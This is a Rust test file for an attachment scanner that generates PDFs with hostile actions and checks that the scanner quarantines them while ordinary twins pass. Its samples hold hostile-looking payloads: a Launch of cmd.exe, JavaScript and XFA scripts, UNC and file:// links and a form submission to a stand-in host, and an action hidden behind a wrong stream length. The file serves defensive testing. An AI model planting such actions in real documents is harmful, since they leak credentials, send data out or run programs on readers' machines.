//! PDF actions, XFA forms and AES-256 encryption (issue 31): generated
//! documents, a hostile and an ordinary twin for each kind, scanned as an
//! attachment would be. What a document makes the reader do is held; the
//! names it happens to contain are not.

mod pdf_build;
#[path = "../examples/samples/mod.rs"]
mod samples;

use ecluse_scanner::sentence::{PdfActionKind, PdfTrigger};
use ecluse_scanner::{
    Action, Category, Engine, FindingKind, Limits, Part, Sentence, scan, scan_file,
};
use pdf_build::*;
use std::sync::LazyLock;

static ENGINE: LazyLock<Engine> = LazyLock::new(Engine::builtin);

fn scan_pdf(pdf: &[u8]) -> Part {
    scan_file(&ENGINE, &Limits::default(), Some("document.pdf"), pdf)
}

/// Every finding of the part and below, as (kind, category, sentence).
fn findings(part: &Part) -> Vec<(FindingKind, Category, Option<Sentence>)> {
    part.walk()
        .into_iter()
        .flat_map(|p| p.findings.iter())
        .map(|f| (f.kind, f.category, f.sentence.clone()))
        .collect()
}

fn describe(part: &Part) -> String {
    findings(part)
        .iter()
        .map(|(k, c, s)| format!("{k:?} ({c}): {:?}", s.as_ref().map(Sentence::en)))
        .collect::<Vec<_>>()
        .join("\n")
}

/// The actions found: (action, trigger, target).
fn actions(part: &Part) -> Vec<(PdfActionKind, PdfTrigger, Option<String>)> {
    findings(part)
        .into_iter()
        .filter_map(|(_, _, s)| match s {
            Some(Sentence::PdfAction {
                action,
                trigger,
                target,
            }) => Some((action, trigger, target)),
            _ => None,
        })
        .collect()
}

fn trigger_of(place: Place) -> PdfTrigger {
    match place {
        Place::OpenAction | Place::NamesTree => PdfTrigger::Open,
        Place::PageOpen => PdfTrigger::Page,
        Place::Annotation => PdfTrigger::Annotation,
        Place::FormField => PdfTrigger::FormField,
        Place::Outline => PdfTrigger::Outline,
    }
}

/// Each action kind: the action dictionary, what it is, the finding kind
/// and category it gets, and a piece of the target the finding names.
fn hostile_actions() -> Vec<(
    &'static str,
    PdfActionKind,
    FindingKind,
    Category,
    Option<&'static str>,
)> {
    use PdfActionKind as A;
    vec![
        (
            r"<< /S /JavaScript /JS (app.alert\(1\)) >>",
            A::JavaScript,
            FindingKind::PdfJavaScript,
            Category::ActiveContent,
            None,
        ),
        (
            r"<< /S /Rendition /OP 4 /JS (app.launchURL\('https://x.example'\)) >>",
            A::Rendition,
            FindingKind::PdfJavaScript,
            Category::ActiveContent,
            None,
        ),
        (
            r"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>",
            A::Launch,
            FindingKind::PdfLaunch,
            Category::ActiveContent,
            Some("cmd.exe /c calc"),
        ),
        (
            r"<< /S /GoToE /F (\\\\203.0.113.5\\partage\\annexe.pdf) /D [0 /Fit] /T << /R /C /N (annexe) >> >>",
            A::GoToEmbedded,
            FindingKind::PdfGoToEmbedded,
            Category::ExternalContent,
            Some(r"\\203.0.113.5\partage\annexe.pdf"),
        ),
        (
            r"<< /S /GoToR /F << /Type /Filespec /F (\\\\203.0.113.5\\partage\\b.pdf) >> /D [0 /Fit] >>",
            A::GoToRemote,
            FindingKind::PdfGoToRemote,
            Category::ExternalContent,
            Some(r"\\203.0.113.5\partage\b.pdf"),
        ),
        (
            r"<< /S /ImportData /F (\\\\203.0.113.5\\partage\\donnees.fdf) >>",
            A::ImportData,
            FindingKind::PdfImportData,
            Category::ExternalContent,
            Some("donnees.fdf"),
        ),
        (
            r"<< /S /SubmitForm /F << /FS /URL /F (http://203.0.113.5/collecte) >> /Flags 4 >>",
            A::SubmitForm,
            FindingKind::PdfSubmitForm,
            Category::ExternalContent,
            Some("http://203.0.113.5/collecte"),
        ),
        (
            r"<< /S /URI /URI (\\\\203.0.113.5\\partage\\x) >>",
            A::Uri,
            FindingKind::ExternalContent,
            Category::ExternalContent,
            Some(r"\\203.0.113.5\partage\x"),
        ),
        (
            r"<< /S /URI /URI (file://203.0.113.5/partage/facture.exe) >>",
            A::Uri,
            FindingKind::ExternalContent,
            Category::ExternalContent,
            Some("file://203.0.113.5"),
        ),
        (
            r"<< /S /URI /URI (search-ms:query=facture&crumb=location:\\\\203.0.113.5@80\\partage) >>",
            A::Uri,
            FindingKind::ExternalContent,
            Category::ExternalContent,
            Some("search-ms:"),
        ),
    ]
}

/// Actions that stay inside the document or on the web.
const ORDINARY_ACTIONS: [&str; 4] = [
    "<< /S /URI /URI (https://www.service-public.fr/particuliers) >>",
    "<< /S /GoTo /D [3 0 R /Fit] >>",
    "<< /S /Named /N /NextPage >>",
    "<< /S /URI /URI (mailto:accueil@ville-exemple.fr) >>",
];

#[test]
fn every_action_kind_is_held_from_every_place() {
    for (dict, action, kind, category, target) in hostile_actions() {
        for place in PLACES {
            let part = scan_pdf(&with_action(place, dict));
            let found = actions(&part);
            assert!(
                found.iter().any(|(a, t, tgt)| *a == action
                    && *t == trigger_of(place)
                    && target.is_none_or(|want| tgt.as_deref().is_some_and(|g| g.contains(want)))),
                "{action:?} from {place:?}: found {found:?}\n{}",
                describe(&part)
            );
            assert!(
                findings(&part)
                    .iter()
                    .any(|(k, c, _)| *k == kind && *c == category),
                "{action:?} from {place:?}: no {kind:?} in {category}\n{}",
                describe(&part)
            );
            assert_eq!(part.action, Action::Quarantine, "{action:?} from {place:?}");
        }
    }
}

#[test]
fn ordinary_actions_are_delivered_from_every_place() {
    for dict in ORDINARY_ACTIONS {
        for place in PLACES {
            let part = scan_pdf(&with_action(place, dict));
            assert_eq!(
                part.action,
                Action::Deliver,
                "{dict} from {place:?}:\n{}",
                describe(&part)
            );
        }
    }
}

#[test]
fn actions_found_through_next_chains_and_indirect_dictionaries() {
    // The page's /AA is an object of its own; the JavaScript is the
    // second action of a /Next chain.
    let mut objects = document("", "/AA 20 0 R");
    objects.push(pdf_build::obj(20, "<< /C 21 0 R >>"));
    objects.push(pdf_build::obj(
        21,
        "<< /S /GoTo /D [3 0 R /Fit] /Next [22 0 R] >>",
    ));
    objects.push(pdf_build::obj(22, r"<< /S /JavaScript /JS 23 0 R >>"));
    objects.push(stream(23, "", b"app.alert(1)"));
    let part = scan_pdf(&write(&objects, ""));
    assert!(
        actions(&part).contains(&(PdfActionKind::JavaScript, PdfTrigger::Page, None)),
        "{}",
        describe(&part)
    );
    // An action that nothing refers to is held all the same.
    let mut objects = document("", "");
    objects.push(pdf_build::obj(30, r"<< /S /Launch /F (facture.exe) >>"));
    let part = scan_pdf(&write(&objects, ""));
    assert_eq!(
        actions(&part),
        vec![(
            PdfActionKind::Launch,
            PdfTrigger::Unreferenced,
            Some("facture.exe".into())
        )]
    );
}

#[test]
fn a_scanned_page_whose_streams_hold_action_names_is_delivered() {
    // An image whose bytes (as a compressor may write them) hold the names
    // of actions, and a page whose text quotes them: stream data, never
    // PDF syntax.
    let mut image = vec![
        0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, b'J', b'F', b'I', b'F', 0,
    ];
    for _ in 0..40 {
        image.extend_from_slice(b"\x8a/JS\x13/Launch\x07/OpenAction\x9c/AA\x00/J#61vaScript /XFA /GoToR /URI (\\\\203.0.113.5\\x)\x01");
    }
    image.extend_from_slice(&[0xff, 0xd9]);
    let text =
        b"BT /F1 10 Tf 72 700 Td (Les noms /JS, /Launch et /OpenAction ne font rien ici) Tj ET";
    let mut objects = document("", "/Resources << /XObject << /Im1 5 0 R >> >>");
    objects[3] = stream(4, "/Filter /FlateDecode", &deflate(text));
    objects.push(stream(
        5,
        "/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode",
        &image,
    ));
    objects.push(stream(6, "", text));
    let scanned = write(&objects, "");
    let part = scan_pdf(&scanned);
    assert_eq!(part.action, Action::Deliver, "{}", describe(&part));
    // Its hostile twin: the same page, with the action in PDF syntax.
    let mut objects = objects.clone();
    objects[0] = pdf_build::obj(1, "<< /Type /Catalog /Pages 2 0 R /OpenAction 10 0 R >>");
    objects.push(pdf_build::obj(
        10,
        r"<< /S /JavaScript /JS (app.alert\(1\)) >>",
    ));
    let part = scan_pdf(&write(&objects, ""));
    assert_eq!(part.action, Action::Quarantine);
    assert!(actions(&part).contains(&(PdfActionKind::JavaScript, PdfTrigger::Open, None)));
}

#[test]
fn an_action_hidden_behind_a_wrong_stream_length_is_found() {
    // A stream whose /Length swallows the next object, `endstream`
    // included: the linear reading takes it for data, but a later
    // cross-reference section points at the object inside, and readers
    // that follow it run the action.
    let hidden = b"BT ET\nendstream\nendobj\n10 0 obj\n<< /S /Launch /F (facture.exe) >>\nendobj\n% padding\n";
    let mut objects = document("/OpenAction 10 0 R", "");
    objects.push(stream(9, "", hidden));
    let base = write(&objects, "");
    let at = base.windows(8).position(|w| w == b"10 0 obj").unwrap();
    let part = scan_pdf(&xref_update(base.clone(), &[(10, at)]));
    assert!(
        actions(&part).contains(&(
            PdfActionKind::Launch,
            PdfTrigger::Open,
            Some("facture.exe".into())
        )),
        "{}",
        describe(&part)
    );
    // Without the section that points at it, it is stream data.
    let part = scan_pdf(&base);
    assert!(actions(&part).is_empty(), "{}", describe(&part));
}

const XFA_TEMPLATE: &str = r#"<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">
 <subform name="demande" layout="tb"><pageSet><pageArea name="p1"/></pageSet>
  <field name="commune"><ui><textEdit/></ui></field>
  <event activity="initialize" name="event__initialize">
   <script contentType="application/x-javascript">xfa.host.gotoURL("http://203.0.113.5/x");</script>
  </event>
 </subform>
</template>"#;

fn xfa_pdf(template: &str, as_array: bool) -> Vec<u8> {
    let mut objects = document("/AcroForm 6 0 R /NeedsRendering true", "");
    if as_array {
        objects.push(pdf_build::obj(
            6,
            "<< /Fields [] /XFA [(preamble) 7 0 R (template) 8 0 R (postamble) 9 0 R] >>",
        ));
        objects.push(stream(
            7,
            "",
            br#"<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">"#,
        ));
        objects.push(stream(
            8,
            "/Filter /FlateDecode",
            &deflate(template.as_bytes()),
        ));
        objects.push(stream(9, "", b"</xdp:xdp>"));
    } else {
        objects.push(pdf_build::obj(6, "<< /Fields [] /XFA 7 0 R >>"));
        let xdp = format!(
            r#"<?xml version="1.0" encoding="UTF-8"?><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">{template}</xdp:xdp>"#
        );
        objects.push(stream(7, "/Filter /FlateDecode", &deflate(xdp.as_bytes())));
    }
    write(&objects, "")
}

#[test]
fn an_xfa_form_with_a_script_is_held_and_one_without_is_delivered() {
    for as_array in [false, true] {
        let part = scan_pdf(&xfa_pdf(XFA_TEMPLATE, as_array));
        assert_eq!(part.action, Action::Quarantine, "{}", describe(&part));
        assert!(
            findings(&part)
                .iter()
                .any(|(k, _, s)| *k == FindingKind::PdfJavaScript
                    && *s
                        == Some(Sentence::PdfXfaScript {
                            content_type: Some("application/x-javascript".into()),
                            activity: Some("initialize".into()),
                        })),
            "{}",
            describe(&part)
        );
        let plain = XFA_TEMPLATE
            .lines()
            .filter(|l| !l.contains("script") && !l.contains("event"))
            .collect::<Vec<_>>()
            .join("\n");
        let part = scan_pdf(&xfa_pdf(&plain, as_array));
        assert_eq!(part.action, Action::Deliver, "{}", describe(&part));
    }
    // FormCalc is not JavaScript; an absent type is held.
    let formcalc = XFA_TEMPLATE.replace("application/x-javascript", "application/x-formcalc");
    assert_eq!(scan_pdf(&xfa_pdf(&formcalc, false)).action, Action::Deliver);
    let untyped = XFA_TEMPLATE.replace(r#" contentType="application/x-javascript""#, "");
    assert_eq!(
        scan_pdf(&xfa_pdf(&untyped, true)).action,
        Action::Quarantine
    );
}

#[test]
fn an_xfa_stream_that_cannot_be_read_is_held() {
    let mut objects = document("/AcroForm 6 0 R", "");
    objects.push(pdf_build::obj(6, "<< /Fields [] /XFA 7 0 R >>"));
    objects.push(stream(7, "/Filter /JBIG2Decode", b"\x00\x01\x02"));
    let part = scan_pdf(&write(&objects, ""));
    assert_eq!(part.action, Action::Quarantine, "{}", describe(&part));
}

#[test]
fn aes_256_revision_6_opens_without_a_password_and_is_read() {
    // Opens without a question: decrypted, read, delivered.
    let ordinary = r6_pdf(b"", "", &[(8, "<< /Title (Attestation) >>")], None);
    let part = scan_pdf(&ordinary);
    assert_eq!(part.action, Action::Deliver, "{}", describe(&part));
    // The same with JavaScript in the encrypted object stream: read.
    let hostile = r6_pdf(
        b"",
        "/OpenAction 8 0 R",
        &[(8, r"<< /S /JavaScript /JS (app.alert\(1\)) >>")],
        None,
    );
    let part = scan_pdf(&hostile);
    assert!(
        actions(&part).contains(&(PdfActionKind::JavaScript, PdfTrigger::Open, None)),
        "{}",
        describe(&part)
    );
    // An encrypted string of a top-level object, decrypted to be judged.
    let unc = r6_pdf(
        b"",
        "/OpenAction 9 0 R",
        &[],
        Some(("<< /S /URI /URI %S% >>", r"\\203.0.113.5\partage")),
    );
    let part = scan_pdf(&unc);
    assert!(
        actions(&part).contains(&(
            PdfActionKind::Uri,
            PdfTrigger::Open,
            Some(r"\\203.0.113.5\partage".into())
        )),
        "{}",
        describe(&part)
    );
    let web = r6_pdf(
        b"",
        "/OpenAction 9 0 R",
        &[],
        Some(("<< /S /URI /URI %S% >>", "https://www.impots.gouv.fr/")),
    );
    assert_eq!(scan_pdf(&web).action, Action::Deliver);
}

#[test]
fn aes_256_revision_6_that_needs_a_password_is_held() {
    let locked = r6_pdf(
        b"motdepasse",
        "",
        &[(8, "<< /Title (Attestation) >>")],
        None,
    );
    let part = scan_pdf(&locked);
    assert_eq!(part.action, Action::Quarantine);
    assert!(
        findings(&part)
            .iter()
            .any(|(k, c, _)| *k == FindingKind::EncryptedDocument
                && *c == Category::EncryptedArchive),
        "{}",
        describe(&part)
    );
}

#[test]
fn hostile_structures_end_in_a_finding_not_a_crash() {
    // Nested too deep, an unclosed string over many headers, a reference
    // loop, an object stream that points past its end: held or delivered,
    // never a panic.
    let deep = format!(
        "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /A {}1{} >>\nendobj\ntrailer << /Root 1 0 R >>\n",
        "[".repeat(200),
        "]".repeat(200)
    );
    let part = scan_pdf(deep.as_bytes());
    assert_eq!(part.action, Action::Quarantine, "{}", describe(&part));
    let mut unclosed = b"%PDF-1.7\n".to_vec();
    for i in 0..20_000 {
        unclosed.extend_from_slice(format!("{i} 0 obj\n<< /T (").as_bytes());
    }
    let part = scan_pdf(&unclosed);
    assert_eq!(part.action, Action::Quarantine, "{}", describe(&part));
    let mut objects = document("/OpenAction 10 0 R", "");
    objects.push(pdf_build::obj(
        10,
        "<< /S /GoTo /D [3 0 R /Fit] /Next 10 0 R >>",
    ));
    objects.push(pdf_build::obj(11, "11 0 R"));
    assert_eq!(scan_pdf(&write(&objects, "")).action, Action::Deliver);
    let mut objects = document("", "");
    objects.push(stream(
        12,
        "/Type /ObjStm /N 1000000 /First 999999",
        b"1 5 2 99999999 <<",
    ));
    let _ = scan_pdf(&write(&objects, ""));
}

#[test]
fn a_pdf_is_judged_wherever_it_sits() {
    use samples::*;
    let hostile = with_action(
        Place::Annotation,
        r"<< /S /GoToR /F (\\\\203.0.113.5\\partage\\b.pdf) /D [0 /Fit] >>",
    );
    let ordinary = with_action(Place::Annotation, ORDINARY_ACTIONS[0]);
    let containers: Vec<(&str, fn(&[u8]) -> String)> = vec![
        ("attachment", |p| {
            with_attachment("Formulaire", "application/pdf", "formulaire.pdf", p)
        }),
        ("zip", |p| {
            with_attachment(
                "Dossier",
                "application/zip",
                "dossier.zip",
                &zip(&[("formulaire.pdf", p)]),
            )
        }),
        ("7z", |p| {
            with_attachment(
                "Dossier",
                "application/x-7z-compressed",
                "dossier.7z",
                &sevenz(&[("formulaire.pdf", p)], None),
            )
        }),
        ("tar.gz", |p| {
            with_attachment(
                "Dossier",
                "application/gzip",
                "dossier.tar.gz",
                &gzip("dossier.tar", &tar(&[("formulaire.pdf", p)])),
            )
        }),
        ("tnef", |p| {
            with_attachment(
                "Outlook",
                "application/ms-tnef",
                "winmail.dat",
                &tnef(&[("formulaire.pdf", p)]),
            )
        }),
        ("attached message", |p| {
            let inner = message(
                "Formulaire",
                &multipart(
                    "mixed",
                    "interieur",
                    &[attachment("application/pdf", "formulaire.pdf", p)],
                ),
            );
            with_attachment(
                "Fwd: Formulaire",
                "message/rfc822",
                "formulaire.eml",
                inner.as_bytes(),
            )
        }),
        ("pdf in pdf", |p| {
            with_attachment(
                "Dossier",
                "application/pdf",
                "dossier.pdf",
                &pdf_with_embedded("formulaire.pdf", p),
            )
        }),
    ];
    for (what, wrap) in containers {
        let report = scan(&ENGINE, &Limits::default(), wrap(&hostile).as_bytes());
        assert!(
            report.categories.contains(&Category::ExternalContent),
            "{what}: {:?}",
            report
                .all_findings()
                .map(|(p, f)| format!("[{p}] {}", f.detail))
                .collect::<Vec<_>>()
        );
        let report = scan(&ENGINE, &Limits::default(), wrap(&ordinary).as_bytes());
        assert_eq!(
            report.action,
            Action::Deliver,
            "{what}: {:?}",
            report
                .all_findings()
                .map(|(p, f)| format!("[{p}] {}", f.detail))
                .collect::<Vec<_>>()
        );
    }
}
